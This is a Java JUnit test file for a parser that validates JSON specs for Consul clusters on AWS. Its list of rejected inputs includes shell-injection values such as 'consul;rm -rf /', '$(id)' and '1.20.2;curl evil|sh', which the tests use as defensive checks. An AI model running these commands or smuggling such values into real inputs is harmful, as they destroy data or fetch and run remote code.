package io.consulfactory.spec;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import java.util.List;
import java.util.stream.Stream;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

class ClusterSpecParserTest {

    static final String NETWORK = "\"vpcId\":\"vpc-0a1b2c3d4e5f60718\",\"subnetIds\":[\"subnet-0a1b2c3d\",\"subnet-0123456789abcdef0\"]";
    static final String MINIMAL = "{\"clusterName\":\"consul-dc1\"," + NETWORK + "}";

    /** The input with one field added (or replaced, since later JSON fields win only through defaults). */
    static String with(String field) {
        return "{\"clusterName\":\"consul-dc1\"," + NETWORK + "," + field + "}";
    }

    static InvalidSpecException rejected(String input) {
        return assertThrows(InvalidSpecException.class, () -> ClusterSpecParser.parse(input, null));
    }

    static InvalidSpecException rejectedWithDefaults(String input, String defaults) {
        return assertThrows(InvalidSpecException.class, () -> ClusterSpecParser.parse(input, defaults));
    }

    @Test
    void fillsEveryDefaultFromAMinimalInput() {
        ClusterSpec spec = ClusterSpecParser.parse(MINIMAL, null);

        assertEquals("consul-dc1", spec.clusterName());
        assertEquals("vpc-0a1b2c3d4e5f60718", spec.vpcId());
        assertEquals(List.of("subnet-0a1b2c3d", "subnet-0123456789abcdef0"), spec.subnetIds());
        assertEquals(3, spec.serverCount());
        assertEquals("t3.small", spec.instanceType());
        assertEquals("1.20.2", spec.consulVersion());
        assertEquals("dc1", spec.datacenter());
        assertEquals(new ClusterSpec.BaseImage("/aws/service/canonical/ubuntu/server/24.04/stable/current/amd64/hvm/ebs-gp3/ami-id", null),
                spec.baseImage());
        assertEquals(new ClusterSpec.JoinTag("consul-cluster", "consul-dc1"), spec.joinTag(), "per cluster: clusters never find each other");
        assertNull(spec.apiAllowedCidrs(), "left out: the VPC's own CIDRs, resolved when the group is made");
        assertEquals(List.of(), spec.sshAllowedCidrs());
        assertEquals(3, spec.keepImages());
    }

    @Test
    void theJoinTagDefaultsToTheClustersOwnNameAndTheClusterKeyTakesNoOtherValue() {
        assertEquals(new ClusterSpec.JoinTag("consul-cluster", "prod"),
                ClusterSpecParser.parse("{\"clusterName\":\"prod\"," + NETWORK + "}", null).joinTag());
        assertEquals(new ClusterSpec.JoinTag("consul-cluster", "consul-dc1"),
                ClusterSpecParser.parse(with("\"joinTag\":{\"key\":\"consul-cluster\",\"value\":\"consul-dc1\"}"), null).joinTag(),
                "the cluster's own name, written out, is the default itself");

        String other = rejected(with("\"joinTag\":{\"key\":\"consul-cluster\",\"value\":\"prod\"}")).getMessage();
        assertTrue(other.contains("joinTag.value") && other.contains("consul-cluster=consul-dc1"), other);
        for (String key : List.of("managed-by", "consul-server-count", "role")) {
            String reserved = rejected(with("\"joinTag\":{\"key\":\"" + key + "\",\"value\":\"x\"}")).getMessage();
            assertTrue(reserved.contains("joinTag.key") && reserved.contains("the factory's own tag keys"), reserved);
        }
    }

    @Test
    void stackDefaultsApplyWhenTheInputOmitsAField() {
        String stack = "{\"clusterName\":\"prod\"," + NETWORK + ",\"consulVersion\":\"1.21.0\"}";

        ClusterSpec fromEmptyInput = ClusterSpecParser.parse("{}", stack);

        assertEquals("prod", fromEmptyInput.clusterName());
        assertEquals("1.21.0", fromEmptyInput.consulVersion());
        assertEquals(2, fromEmptyInput.subnetIds().size());
    }

    @Test
    void theInputOverridesTheStackDefaultsAndNullMeansDefault() {
        String stack = "{\"clusterName\":\"prod\"," + NETWORK + ",\"serverCount\":5}";

        ClusterSpec spec = ClusterSpecParser.parse("{\"clusterName\":\"staging\",\"serverCount\":null,\"keepImages\":7}", stack);

        assertEquals("staging", spec.clusterName());
        assertEquals(5, spec.serverCount(), "null in the input keeps the stack's value");
        assertEquals(7, spec.keepImages());
    }

    @Test
    void anExplicitEmptyApiCidrListMeansNoCidrNotTheVpc() {
        assertEquals(List.of(), ClusterSpecParser.parse(with("\"apiAllowedCidrs\":[]"), null).apiAllowedCidrs());
        assertEquals(List.of("10.0.0.0/16", "2001:db8::/32"),
                ClusterSpecParser.parse(with("\"apiAllowedCidrs\":[\"10.0.0.0/16\",\"2001:db8::/32\"]"), null).apiAllowedCidrs());
    }

    @Test
    void gravitonInstanceTypesGetTheArm64UbuntuImage() {
        for (String type : List.of("t4g.small", "m7g.large", "c7gn.xlarge", "r8g.medium", "im4gn.large", "is4gen.large", "g5g.xlarge", "a1.large", "m7gd.large")) {
            assertEquals("arm64", ClusterSpecParser.architectureOf(type), type);
        }
        for (String type : List.of("t3.small", "m7i.large", "c7a.large", "g4dn.xlarge", "m5.large", "t3a.nano")) {
            assertEquals("x86_64", ClusterSpecParser.architectureOf(type), type);
        }
        ClusterSpec arm = ClusterSpecParser.parse(with("\"instanceType\":\"t4g.small\""), null);
        assertTrue(arm.baseImage().ssmParameter().contains("/arm64/"), arm.baseImage().ssmParameter());
    }

    @Test
    void aGivenImageIdReplacesTheSsmParameter() {
        ClusterSpec spec = ClusterSpecParser.parse(with("\"baseImage\":{\"imageId\":\"ami-0123456789abcdef0\"}"), null);

        assertEquals(new ClusterSpec.BaseImage(null, "ami-0123456789abcdef0"), spec.baseImage());
    }

    @Test
    void rejectsAnEvenServerCountNamingTheFieldAndTheRule() {
        InvalidSpecException e = rejected(with("\"serverCount\":4"));

        assertEquals("serverCount", e.violations().get(0).field());
        assertTrue(e.violations().get(0).rule().contains("odd"), e.getMessage());
        assertTrue(e.getMessage().startsWith("Invalid cluster spec: serverCount: "), e.getMessage());
    }

    @Test
    void reportsEveryBrokenRuleAtOnce() {
        InvalidSpecException e = rejected("{\"clusterName\":\"X\",\"vpcId\":\"vpc-1\",\"subnetIds\":[],\"serverCount\":9,"
                + "\"consulVersion\":\"v1\",\"colour\":\"blue\"}");

        assertEquals(List.of("colour", "clusterName", "vpcId", "subnetIds", "serverCount", "consulVersion"),
                e.violations().stream().map(InvalidSpecException.Violation::field).toList());
    }

    @Test
    void malformedJsonIsAnInputErrorToo() {
        InvalidSpecException e = rejected("{\"clusterName\":");

        assertEquals("(input)", e.violations().get(0).field());
    }

    static Stream<Arguments> badInputs() {
        return Stream.of(
                // wrong shapes and types
                Arguments.of("[]", "(input)"),
                Arguments.of("\"consul\"", "(input)"),
                Arguments.of("{\"clusterName\":42," + NETWORK + "}", "clusterName"),
                Arguments.of(with("\"serverCount\":\"3\""), "serverCount"),
                Arguments.of(with("\"serverCount\":3.0"), "serverCount"),
                Arguments.of(with("\"serverCount\":true"), "serverCount"),
                Arguments.of(with("\"keepImages\":[3]"), "keepImages"),
                Arguments.of("{\"clusterName\":\"consul-dc1\",\"vpcId\":\"vpc-0a1b2c3d\",\"subnetIds\":\"subnet-0a1b2c3d\"}", "subnetIds"),
                Arguments.of("{\"clusterName\":\"consul-dc1\",\"vpcId\":\"vpc-0a1b2c3d\",\"subnetIds\":[7]}", "subnetIds[0]"),
                Arguments.of(with("\"baseImage\":\"ami-0123456789abcdef0\""), "baseImage"),
                Arguments.of(with("\"joinTag\":[\"service\",\"consul\"]"), "joinTag"),
                Arguments.of(with("\"apiAllowedCidrs\":\"10.0.0.0/16\""), "apiAllowedCidrs"),
                // missing network fields
                Arguments.of("{\"clusterName\":\"consul-dc1\",\"subnetIds\":[\"subnet-0a1b2c3d\"]}", "vpcId"),
                Arguments.of("{\"clusterName\":\"consul-dc1\",\"vpcId\":\"vpc-0a1b2c3d\"}", "subnetIds"),
                Arguments.of("{" + NETWORK + "}", "clusterName"),
                Arguments.of("{\"clusterName\":\"consul-dc1\",\"vpcId\":\"vpc-0a1b2c3d\",\"subnetIds\":[]}", "subnetIds"),
                // out of range
                Arguments.of(with("\"serverCount\":1"), "serverCount"),
                Arguments.of(with("\"serverCount\":9"), "serverCount"),
                Arguments.of(with("\"serverCount\":-3"), "serverCount"),
                Arguments.of(with("\"serverCount\":4"), "serverCount"),
                Arguments.of(with("\"keepImages\":0"), "keepImages"),
                Arguments.of(with("\"keepImages\":21"), "keepImages"),
                Arguments.of(with("\"maxImageAgeDays\":0"), "maxImageAgeDays"),
                Arguments.of(with("\"maxImageAgeDays\":366"), "maxImageAgeDays"),
                Arguments.of(with("\"maxImageAgeDays\":\"30d\""), "maxImageAgeDays"),
                Arguments.of(with("\"serverCount\":99999999999"), "serverCount"),
                // unknown fields
                Arguments.of(with("\"servers\":3"), "servers"),
                Arguments.of(with("\"baseImage\":{\"imageId\":\"ami-0123456789abcdef0\",\"owner\":\"me\"}"), "baseImage.owner"),
                Arguments.of(with("\"joinTag\":{\"key\":\"service\",\"value\":\"consul\",\"scope\":\"x\"}"), "joinTag.scope"),
                // over-long and malformed names and ids
                Arguments.of("{\"clusterName\":\"" + "a".repeat(33) + "\"," + NETWORK + "}", "clusterName"),
                Arguments.of("{\"clusterName\":\"ab\"," + NETWORK + "}", "clusterName"),
                Arguments.of("{\"clusterName\":\"Consul\"," + NETWORK + "}", "clusterName"),
                Arguments.of("{\"clusterName\":\"consul-\"," + NETWORK + "}", "clusterName"),
                Arguments.of("{\"clusterName\":\"1consul\"," + NETWORK + "}", "clusterName"),
                Arguments.of("{\"clusterName\":\"con--sul\"," + NETWORK + "}", "clusterName"),
                Arguments.of("{\"clusterName\":\"consul\",\"vpcId\":\"vpc-0A1B2C3D\",\"subnetIds\":[\"subnet-0a1b2c3d\"]}", "vpcId"),
                Arguments.of("{\"clusterName\":\"consul\",\"vpcId\":\"vpc-0a1b2c3d\",\"subnetIds\":[\"subnet-0a1b2c3d\",\"subnet-0a1b2c3d\"]}", "subnetIds[1]"),
                Arguments.of("{\"clusterName\":\"consul\",\"vpcId\":\"vpc-0a1b2c3d\",\"subnetIds\":[\"sg-0a1b2c3d\"]}", "subnetIds[0]"),
                Arguments.of(with("\"datacenter\":\"" + "d".repeat(64) + "\""), "datacenter"),
                Arguments.of(with("\"instanceType\":\"\""), "instanceType"),
                Arguments.of(with("\"instanceType\":\"t3\""), "instanceType"),
                Arguments.of(with("\"consulVersion\":\"v1.20.2\""), "consulVersion"),
                Arguments.of(with("\"consulVersion\":\"1.20.2-rc1\""), "consulVersion"),
                Arguments.of(with("\"consulVersion\":\"1.20\""), "consulVersion"),
                Arguments.of(with("\"baseImage\":{}"), "baseImage"),
                Arguments.of(with("\"baseImage\":{\"imageId\":\"ami-0123456789abcdef0\",\"ssmParameter\":\"/a/b\"}"), "baseImage"),
                Arguments.of(with("\"baseImage\":{\"imageId\":\"ami-xyz\"}"), "baseImage.imageId"),
                Arguments.of(with("\"baseImage\":{\"ssmParameter\":\"no/leading/slash\"}"), "baseImage.ssmParameter"),
                Arguments.of(with("\"joinTag\":{\"key\":\"aws:service\",\"value\":\"consul\"}"), "joinTag.key"),
                Arguments.of(with("\"joinTag\":{\"key\":\"consul-cluster\",\"value\":\"consul\"}"), "joinTag.value"),
                Arguments.of(with("\"joinTag\":{\"key\":\"managed-by\",\"value\":\"consul-cluster-factory\"}"), "joinTag.key"),
                Arguments.of(with("\"joinTag\":{\"key\":\"consul-server-count\",\"value\":\"3\"}"), "joinTag.key"),
                Arguments.of(with("\"joinTag\":{\"key\":\"role\",\"value\":\"server\"}"), "joinTag.key"),
                Arguments.of(with("\"joinTag\":{\"key\":\"service\"}"), "joinTag.value"),
                // CIDRs
                Arguments.of(with("\"apiAllowedCidrs\":[\"10.0.0.0\"]"), "apiAllowedCidrs[0]"),
                Arguments.of(with("\"apiAllowedCidrs\":[\"10.0.0.1/16\"]"), "apiAllowedCidrs[0]"),
                Arguments.of(with("\"apiAllowedCidrs\":[\"10.0.0.0/33\"]"), "apiAllowedCidrs[0]"),
                Arguments.of(with("\"apiAllowedCidrs\":[\"256.0.0.0/8\"]"), "apiAllowedCidrs[0]"),
                Arguments.of(with("\"apiAllowedCidrs\":[\"010.0.0.0/8\"]"), "apiAllowedCidrs[0]"),
                Arguments.of(with("\"sshAllowedCidrs\":[\"2001:db8::1/32\"]"), "sshAllowedCidrs[0]"),
                Arguments.of(with("\"sshAllowedCidrs\":[\"2001:db8::/129\"]"), "sshAllowedCidrs[0]"),
                Arguments.of(with("\"sshAllowedCidrs\":[\"example.com/32\"]"), "sshAllowedCidrs[0]"),
                // injection attempts into values that reach user data, names and tags
                Arguments.of("{\"clusterName\":\"consul;rm -rf /\"," + NETWORK + "}", "clusterName"),
                Arguments.of("{\"clusterName\":\"consul$(id)\"," + NETWORK + "}", "clusterName"),
                Arguments.of("{\"clusterName\":\"consul`id`\"," + NETWORK + "}", "clusterName"),
                Arguments.of("{\"clusterName\":\"consul\\ndc1\"," + NETWORK + "}", "clusterName"),
                Arguments.of("{\"clusterName\":\"consul'dc1\"," + NETWORK + "}", "clusterName"),
                Arguments.of("{\"clusterName\":\"consul\\\"dc1\"," + NETWORK + "}", "clusterName"),
                Arguments.of("{\"clusterName\":\"consul dc1\"," + NETWORK + "}", "clusterName"),
                Arguments.of("{\"clusterName\":\"cönsul\"," + NETWORK + "}", "clusterName"),
                Arguments.of(with("\"datacenter\":\"dc1;reboot\""), "datacenter"),
                Arguments.of(with("\"datacenter\":\"dc1\\n\""), "datacenter"),
                Arguments.of(with("\"datacenter\":\"$(curl x)\""), "datacenter"),
                Arguments.of(with("\"consulVersion\":\"1.20.2;curl evil|sh\""), "consulVersion"),
                Arguments.of(with("\"consulVersion\":\"1.20.2\\n\""), "consulVersion"),
                Arguments.of(with("\"consulVersion\":\"../../1.0.0\""), "consulVersion"),
                Arguments.of(with("\"joinTag\":{\"key\":\"service\",\"value\":\"consul server\"}"), "joinTag.value"),
                Arguments.of(with("\"joinTag\":{\"key\":\"service\",\"value\":\"x' tag_key=y\"}"), "joinTag.value"),
                Arguments.of(with("\"joinTag\":{\"key\":\"ser\\nvice\",\"value\":\"consul\"}"), "joinTag.key"),
                Arguments.of(with("\"apiAllowedCidrs\":[\"10.0.0.0/16;id\"]"), "apiAllowedCidrs[0]"),
                Arguments.of(with("\"apiAllowedCidrs\":[\"10.0.0.0/16\\n\"]"), "apiAllowedCidrs[0]"),
                Arguments.of(with("\"instanceType\":\"t3.small$(id)\""), "instanceType"),
                Arguments.of(with("\"baseImage\":{\"ssmParameter\":\"/aws/x y\"}"), "baseImage.ssmParameter"));
    }

    @ParameterizedTest(name = "[{index}] {1}: {0}")
    @MethodSource("badInputs")
    void rejectsABadInputNamingTheField(String input, String field) {
        InvalidSpecException e = rejected(input);

        assertTrue(e.violations().stream().anyMatch(v -> v.field().equals(field)),
                "expected a violation of " + field + ", got " + e.getMessage());
        assertTrue(e.violations().stream().allMatch(v -> v.rule().length() > 10), e.getMessage());
        assertTrue(e.getMessage().indexOf('\n') < 0, "the message stays on one line: " + e.getMessage());
    }

    @Test
    void theWorldIsAllowedOnlyWhenTheSpecSaysSoItself() {
        ClusterSpec open = ClusterSpecParser.parse(with("\"apiAllowedCidrs\":[\"0.0.0.0/0\",\"::/0\"]"), null);

        assertEquals(List.of("0.0.0.0/0", "::/0"), open.apiAllowedCidrs());
        assertTrue(Cidr.parse("0.0.0.0/0").isAnywhere());
        assertTrue(Cidr.parse("::/0").isAnywhere());
    }
}
